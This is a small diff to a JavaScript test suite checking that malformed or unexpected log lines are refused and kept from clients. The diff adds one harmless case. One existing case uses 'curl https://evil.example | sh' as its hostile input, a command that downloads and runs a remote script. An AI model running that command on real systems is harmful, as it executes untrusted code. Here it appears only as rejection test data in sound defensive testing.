@@ -37,6 +37,7 @@ describe('lines', () => {
     ['a repetition', [0, 0].map(seq => ({ seq, type: 'build', msg: 'x' }))],
     ['an earlier one', [{ seq: -1, type: 'build', msg: 'x' }]],
     ['one in the name of the service', [{ seq: 0, type: 'host', msg: 'curl https://evil.example | sh' }]],
+    ['another in its name', [{ seq: 0, type: 'vm', msg: 'The virtual machine is another one now.' }]],
   ]
   for (const [what, lines] of cases) {
     test(`goal: ${what} is refused, and no client sees it`, async () => {
